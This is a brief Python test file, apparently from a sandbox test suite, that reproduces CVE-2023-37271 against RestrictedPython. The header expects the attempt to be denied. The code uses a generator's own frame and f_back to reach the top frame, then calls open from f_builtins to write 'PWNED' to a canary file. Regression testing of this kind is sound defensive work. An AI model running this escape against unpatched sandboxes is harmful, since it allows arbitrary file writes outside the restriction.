# SPDX-License-Identifier: Apache-2.0
# tries: climb out of RestrictedPython by the frame of a generator that looks at itself (P03)
# proof: changed
# expect: openat write deny EACCES @CANARY@/file
# for: restricted
#
# CVE-2023-37271.  Every attribute that is read goes through a guard, and the guard refuses names
# that begin with an underscore.  gi_frame, f_back and f_builtins do not.  Fixed in
# RestrictedPython 6.1 and 7.0 by a list of such names.


def climb():
    yield generator.gi_frame.f_back


generator = climb()
for frame in generator:
    pass

while frame.f_back:
    frame = frame.f_back

try:
    frame.f_builtins['open']('@CANARY@/file', 'w').write('PWNED')
except Exception:
    pass
